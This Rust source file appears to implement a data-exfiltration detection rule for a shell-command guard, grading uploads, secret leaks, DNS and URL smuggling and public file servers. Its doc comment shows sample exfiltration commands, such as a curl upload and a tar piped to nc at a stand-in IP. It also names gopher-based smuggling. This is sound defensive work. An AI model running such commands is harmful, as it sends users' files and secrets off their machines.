//! Data exfiltration.
//!
//! # What
//!
//! Uploads of files, of what programs print and of secret variables to any host but this one, be it
//! as part of a URL or of a name that is looked up, and
//! servers that offer local files to everybody. Files with secrets leave by way of a port of this machine,
//! too. Copies of ordinary files with scp, rsync and the like, and text of the command over a bare
//! connection or by mail, are asked about. Text of the command in a request is not: nothing local leaves.
//!
//! # Why
//!
//! What has left the machine cannot be had back.
//!
//! # Example
//!
//! ```text
//! curl -T report.db https://files.example.net/
//! tar cz src | nc 203.0.113.5 9001
//! python3 -m http.server
//! ```
//!
//! # Instead
//!
//! Use scp, rsync or git to a machine you know; bind servers to 127.0.0.1.
//!
//! # Answers
//!
//! ```toml
//! [secret]
//! all = "block"
//! confidence = 0.98
//! core = true
//! instead = "Never send credentials; use the tool's own login."
//!
//! [system-file]
//! all = "block"
//! confidence = 0.96
//! core = true
//! instead = "Send only files of the project."
//!
//! [upload]
//! all = "block"
//! confidence = 0.9
//! instead = "Use scp, rsync or git to a machine you know, or a service on localhost."
//!
//! [output]
//! all = "block"
//! confidence = 0.88
//! instead = "Write the output to a file and look at it first."
//!
//! [remote-copy]
//! default = "warn"
//! sysadmin = "allow"
//! restricted = "block"
//! confidence = 0.75
//! instead = "Fine if you know the machine."
//!
//! [literal]
//! default = "warn"
//! sysadmin = "warn"
//! restricted = "block"
//! confidence = 0.7
//! instead = "Fine if you know the service."
//!
//! [request]
//! default = "allow"
//! sysadmin = "allow"
//! restricted = "block"
//! confidence = 0.7
//! instead = "Fine if you know the service."
//!
//! [misused]
//! all = "block"
//! confidence = 0.92
//! instead = "Use the program for what it is made for, on its own port."
//!
//! [served]
//! default = "block"
//! sysadmin = "warn"
//! restricted = "block"
//! confidence = 0.92
//! instead = "Bind to localhost, for example `python3 -m http.server --bind 127.0.0.1`."
//!
//! [served-part]
//! default = "warn"
//! sysadmin = "warn"
//! restricted = "block"
//! confidence = 0.75
//! instead = "Bind to localhost, for example `--bind 127.0.0.1`."
//! ```

use crate::action::Action;
use crate::address::{AddressPart, carried};
use crate::finding::{Findings, Rule};
use crate::hosts::{HostClass, is_local_binding};
use crate::paths::glob::Match;
use crate::paths::{ClassifiedPath, Extent, ReadClass, WriteClass};
use crate::table::kinds::data_exfiltration as kind;
use crate::table::manuals;
use crate::variables::{is_secret_name, is_telling_nothing};
use crate::view::{View, has_trait, show};
use aegish_effects::{EffectKind, Source, Stream, Taint, Value};
use aegish_profiles::Trait;

pub(crate) const RULE: Rule = Rule {
    id: "7",
    name: "data-exfiltration",
    title: "Data exfiltration",
    summary: "Hands local files, output or secrets to another machine.",
    action: Action::Block,
    manual: manuals::DATA_EXFILTRATION,
    kinds: kind::ALL,
};

pub(crate) fn check(view: &View<'_>, out: &mut Findings<'_>) {
    match view.effect() {
        Some(EffectKind::Send { to, what, taint }) if view.host != Some(HostClass::Loopback) => {
            send(view, to, what, taint, out);
        }
        // Bytes for an unusual address of this machine: nothing well-known listens there.
        Some(EffectKind::Send { to, what: Stream::Literal(_) | Stream::Standard, .. })
            if !is_request(view)
                && to.known_prefix().starts_with("127.")
                && !to.known_prefix().starts_with("127.0.0.1") =>
        {
            let usual = to.known_prefix().starts_with("127.0.");
            let kind = if usual { &kind::LITERAL } else { &kind::MISUSED };
            out.add(&RULE, kind, Match::Must, || {
                format!("sends data given in the command to {}", show(to))
            });
        }
        // What listens there may pass it on.
        Some(EffectKind::Send { to, what: Stream::File(path), .. })
            if view.place.as_ref().map(worth_of_place) == Some(Worth::Secret) =>
        {
            file(view, to, path, &Worth::Secret, None, out);
        }
        Some(EffectKind::Fetch { from: address, .. }) if is_smuggled(address) => {
            out.add(&RULE, &kind::MISUSED, Match::Must, || {
                format!("hands data to another service by way of {}", show(address))
            });
        }
        Some(EffectKind::Fetch { from: address, .. }) if view.host != Some(HostClass::Loopback) => {
            in_address(view, address, out);
        }
        Some(EffectKind::Connect { host: address, .. }) if view.only_resolves() => {
            in_address(view, address, out);
        }
        Some(EffectKind::Serve { host, root }) if !is_local_binding(host) => {
            // One directory of the project, chosen by name, is meant to be served.
            let part = ClassifiedPath::of(root, view.setting)
                .is_some_and(|place| place.in_cwd && place.extent == Extent::Inner);
            let kind = if part { &kind::SERVED_PART } else { &kind::SERVED };
            out.add(&RULE, kind, Match::Must, || {
                format!("offers {} to everybody who can reach this machine", show(root))
            });
        }
        _ => {}
    }
}

/// The value of content.
#[derive(PartialEq, Eq, PartialOrd, Ord)]
enum Worth {
    /// Text of the command, or output that reveals nothing.
    Nothing,
    /// An ordinary file, or output of a program.
    Local,
    /// A file of the system.
    System,
    /// A secret.
    Secret,
}

fn send(view: &View<'_>, to: &Value, what: &Stream, taint: &Taint, out: &mut Findings<'_>) {
    let mut worth = Worth::Nothing;
    let mut named: Option<&Source> = None;
    let own = if let Stream::Literal(text) = what { text.taint() } else { taint };
    let named_in_text = |source: &Source| matches!((what, source), (Stream::Literal(_), Source::Program(name)) if name == "git");
    for source in taint.sources().chain(own.sources()) {
        // A commit or branch put into a message; a whole diff comes through a pipe.
        if named_in_text(source) {
            continue;
        }
        let found = worth_of_source(source, view);
        if found > worth {
            worth = found;
            named = Some(source);
        }
    }
    let beside = matches!(what, Stream::Literal(text) if text.pieces().is_empty());
    if beside && !taint.is_none() && worth < Worth::Secret {
        return;
    }
    if let Stream::File(path) = what {
        let found = view.place.as_ref().map_or(Worth::Local, worth_of_place);
        if found >= worth {
            worth = found;
            named = None;
        }
        if to.pieces().is_empty() && worth != Worth::Secret {
            return;
        }
        file(view, to, path, &worth, named, out);
        return;
    }
    // Without an address it is the local printer, log or mail system.
    if to.pieces().is_empty() && worth != Worth::Secret {
        return;
    }
    // A version or a name in a command for another machine is the purpose of the command.
    let elsewhere = matches!(view.program(), Some("autossh" | "mosh" | "rsh" | "ssh"));
    if elsewhere && matches!(what, Stream::Literal(_)) && worth < Worth::System {
        return;
    }
    let origin = || named.map_or_else(|| "data".to_owned(), describe);
    match worth {
        Worth::Secret => out.add(&RULE, &kind::SECRET, Match::Must, || {
            format!("sends {} to {}", origin(), show(to))
        }),
        Worth::System => out.add(&RULE, &kind::SYSTEM_FILE, Match::Must, || {
            format!("sends {} to {}", origin(), show(to))
        }),
        // `while read host; do ssh "$host" uptime; done < hosts`: the list contains the hosts.
        Worth::Local
            if copies(view)
                && taint.sources().all(|source| to.taint().sources().any(|own| own == source)) => {}
        Worth::Local if copies(view) => out.add(&RULE, &kind::REMOTE_COPY, Match::Must, || {
            format!("copies {} to {}", origin(), show(to))
        }),
        Worth::Local => out.add(&RULE, &kind::OUTPUT, Match::Must, || {
            format!("sends {} to {}", origin(), show(to))
        }),
        Worth::Nothing if is_misused(view) => out.add(&RULE, &kind::MISUSED, Match::Must, || {
            format!("hands data to port {} of {} in place of a name", port(view), show(to))
        }),
        // Looking up a name is the purpose of the server.
        Worth::Nothing if asks_about_a_name(view) => {}
        Worth::Nothing if matches!(view.host, Some(HostClass::Private)) || copies(view) => {}
        Worth::Nothing => {
            let kind = if is_request(view) { &kind::REQUEST } else { &kind::LITERAL };
            out.add(&RULE, kind, Match::Must, || {
                format!("sends data given in the command to {}", show(to))
            });
        }
    }
}

/// The command sends a request and fetches the answer.
fn is_request(view: &View<'_>) -> bool {
    view.own_effects().any(|effect| matches!(effect, EffectKind::Fetch { .. }))
}

/// The port that the command names.
fn port(view: &View<'_>) -> String {
    let mut ports = view.own_effects().filter_map(|effect| match effect {
        EffectKind::Connect { port, .. } if !port.pieces().is_empty() => Some(show(port)),
        _ => None,
    });
    ports.next().unwrap_or_default()
}

fn asks_about_a_name(view: &View<'_>) -> bool {
    view.program_is(Trait::NameSender)
}

/// A name lookup that is sent to an unusual port.
fn is_misused(view: &View<'_>) -> bool {
    asks_about_a_name(view) && !matches!(port(view).as_str(), "" | "43" | "79" | "513" | "631")
}

/// `gopher://host:port/_TEXT` hands any text to any port.
fn is_smuggled(address: &Value) -> bool {
    let text = address.known_prefix();
    let rest = text.strip_prefix("gopher://").or_else(|| text.strip_prefix("gophers://"));
    rest.is_some_and(|rest| rest.contains("/_"))
}

fn file(
    view: &View<'_>,
    to: &Value,
    path: &Value,
    worth: &Worth,
    named: Option<&Source>,
    out: &mut Findings<'_>,
) {
    let holds = || match view.classes().read {
        Some(hit) => format!(", which holds {}", hit.holds),
        None => String::new(),
    };
    let what = || match named {
        Some(source) => format!("{} with {}", show(path), describe(source)),
        None => format!("{}{}", show(path), holds()),
    };
    let wide = view.place.is_some_and(|place| place.extent >= Extent::Home);
    match worth {
        Worth::Secret => out
            .add(&RULE, &kind::SECRET, Match::Must, || format!("sends {} to {}", what(), show(to))),
        Worth::System => out.add(&RULE, &kind::SYSTEM_FILE, Match::Must, || {
            format!("sends {} to {}", what(), show(to))
        }),
        _ if copies(view) && !wide => out.add(&RULE, &kind::REMOTE_COPY, Match::Must, || {
            format!("copies {} to {}", show(path), show(to))
        }),
        _ => out.add(&RULE, &kind::UPLOAD, Match::Must, || {
            format!("uploads {} to {}", show(path), show(to))
        }),
    }
}

fn copies(view: &View<'_>) -> bool {
    view.program_is(Trait::RemoteCopy)
}

fn worth_of_source(source: &Source, view: &View<'_>) -> Worth {
    match source {
        Source::File(path) => {
            match ClassifiedPath::of(&Value::known(path.as_str()), view.setting) {
                Some(place) => worth_of_place(&place),
                None => Worth::Local,
            }
        }
        Source::Environment(name) | Source::FilteredEnvironment(name) if is_secret_name(name) => {
            Worth::Secret
        }
        _ if is_telling_nothing(source) => Worth::Nothing,
        _ => Worth::Local,
    }
}

fn worth_of_place(place: &ClassifiedPath) -> Worth {
    match place.read_class() {
        Some(ReadClass::Ordinary) | None => {}
        Some(ReadClass::AccountList | ReadClass::LoginRecord) => return Worth::System,
        Some(_) => return Worth::Secret,
    }
    if place.classes.tree.is_some() || (place.extent >= Extent::Home && !place.in_home) {
        return Worth::Secret;
    }
    match place.write_class() {
        Some(
            WriteClass::System
            | WriteClass::Configuration
            | WriteClass::State
            | WriteClass::Log
            | WriteClass::Boot
            | WriteClass::PackageSettings
            | WriteClass::Schedule
            | WriteClass::Authentication
            | WriteClass::Loader
            | WriteClass::Protection
            | WriteClass::GuardProgram
            | WriteClass::Kernel
            | WriteClass::KeyStore,
        ) if !place.in_cwd => Worth::System,
        _ => Worth::Local,
    }
}

fn describe(source: &Source) -> String {
    match source {
        Source::File(path) => format!("the content of {}", crate::view::show_text(path)),
        Source::Program(name) => format!("the output of {}", crate::view::show_text(name)),
        Source::Environment(name) => format!("the variable {name}"),
        Source::FilteredEnvironment(pattern) => {
            format!("the variables that `{}` finds", crate::view::show_text(pattern))
        }
        Source::Network(origin) | Source::Verified(origin) => {
            format!("what came from {}", crate::view::show_text(origin))
        }
        Source::Checkout(origin) => format!("files of {}", crate::view::show_text(origin)),
        Source::Terminal => "what is typed".to_owned(),
    }
}

/// Output, files and secrets that leave as part of a URL or of a name that is looked up.
fn in_address(view: &View<'_>, address: &Value, out: &mut Findings<'_>) {
    let Some(part) = carried(address) else { return };
    let encoded = address
        .taint()
        .sources()
        .any(|source| matches!(source, Source::Program(name) if has_trait(name, Trait::Encoder)));
    let mut worst: Option<(&Source, Worth)> = None;
    for source in address.taint().sources() {
        let worth = match source {
            Source::Program(name) => match name.as_str() {
                name if has_trait(name, Trait::RevealsLittle)
                    || has_trait(name, Trait::Encoder) =>
                {
                    continue;
                }
                // A script of the project that prints a version or a name.
                name if part != AddressPart::Query && name.contains(['.', '/']) => continue,
                _ => worth_of_source(source, view),
            },
            Source::Environment(_) if part != AddressPart::Query => continue,
            _ => worth_of_source(source, view),
        };
        // `v$(cat VERSION)` in a path is the purpose of the file.
        let named = part != AddressPart::Query
            && matches!(source, Source::File(_))
            && worth == Worth::Local;
        if worth == Worth::Nothing || (named && !encoded) {
            continue;
        }
        if worst.as_ref().is_none_or(|(_, present)| worth > *present) {
            worst = Some((source, worth));
        }
    }
    let Some((source, worth)) = worst else { return };
    let near = matches!(view.host, Some(HostClass::Private | HostClass::Unknown))
        && part != AddressPart::Label;
    if near && worth != Worth::Secret {
        return;
    }
    let kind = match worth {
        Worth::Secret => &kind::SECRET,
        Worth::System => &kind::SYSTEM_FILE,
        Worth::Local | Worth::Nothing => &kind::OUTPUT,
    };
    out.add(&RULE, kind, Match::Must, || {
        format!("puts {} into the address {}", describe(source), show(address))
    });
}
